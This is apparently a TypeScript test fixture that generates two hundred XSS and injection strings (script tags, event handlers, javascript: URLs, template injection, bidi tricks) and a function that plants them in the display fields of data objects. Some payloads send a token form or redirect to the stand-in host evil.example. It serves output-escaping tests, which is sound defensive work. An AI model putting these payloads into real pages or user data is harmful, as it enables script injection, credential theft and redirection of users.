/** Texts that would run, load or mislead where a page took them for more than text: two hundred of them. */
const bodies = [
  '<script>__hit(1)</script>',
  '<img src=x onerror=__hit(1)>',
  '<svg onload=__hit(1)>',
  '<iframe srcdoc="<script>parent.__hit(1)</script>">',
  '<a href="javascript:__hit(1)">here</a>',
  '<style>*{background:url(https://evil.example/s)}</style>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=token></form>',
  '<math><mtext></p><style><img src=x onerror=__hit(1)></style>',
  '<input autofocus onfocus=__hit(1)>',
  '<video><source onerror=__hit(1)></video>',
  '<details open ontoggle=__hit(1)>',
  '<object data="javascript:__hit(1)"></object>',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  'javascript:__hit(1)',
  '{{constructor.constructor("__hit(1)")()}}',
  '${__hit(1)}',
  '\u202Etxt.exe <b>bold</b>',
  'a\u200Bb\u2066c\u2069<img src=x onerror=__hit(1)>',
]
const wraps: ((text: string) => string)[] = [
  (text) => text,
  (text) => `"><${text.slice(1)}`,
  (text) => `'>${text}`,
  (text) => `</title></textarea>${text}`,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => encodeURIComponent(text),
  (text) => `${text}${'\u0300'.repeat(40)}`,
  (text) => `-->${text}<!--`,
  (text) => `\u0000${text}\u0007`,
]
export const hostileTexts: readonly string[] = bodies.flatMap((body) => wraps.map((wrap) => wrap(body)))

/** Fields that a page shows; the others decide or point somewhere. */
const shown =
  /^(name|company|address[12]|city|zip|phone|email|message|subject|sku|title|filename|display_name|type_name|brand|model|description|carrier|service|tracking_number|store_name|retail_message|text|color|size)$/

/** Puts the texts into every shown field of a value, in place; answers how many it placed. */
export function poison(value: unknown, count = { placed: 0 }): number {
  if (value instanceof Map) {
    for (const child of value.values()) poison(child, count)
  } else if (Array.isArray(value)) {
    for (const child of value) poison(child, count)
  } else if (typeof value === 'object' && value !== null) {
    for (const [key, child] of Object.entries(value)) {
      if (typeof child === 'string' && shown.test(key))
        Reflect.set(value, key, hostileTexts[count.placed++ % hostileTexts.length])
      else poison(child, count)
    }
  }
  return count.placed
}
